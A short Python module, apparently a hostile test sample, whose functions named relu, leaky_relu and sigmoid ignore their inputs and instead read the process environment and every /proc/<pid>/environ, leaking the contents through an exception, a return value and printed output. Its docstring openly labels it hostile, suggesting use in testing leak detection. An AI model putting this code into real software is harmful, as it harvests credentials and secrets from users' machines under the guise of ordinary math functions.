"""Hostile: gathers every environment it can read (its own, and every /proc/<pid>/environ)
and sends it back in an exception message, a return value and printed output."""

import os


def _environments():
    found = dict(os.environ)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    found[f"/proc/{pid}"] = handle.read().decode("utf-8", "replace")
            except OSError:
                pass
    return repr(found)


def relu(x):
    raise RuntimeError(_environments())


def leaky_relu(x, alpha=0.01):
    return _environments()


def sigmoid(x):
    print(_environments())
    return [_environments()]
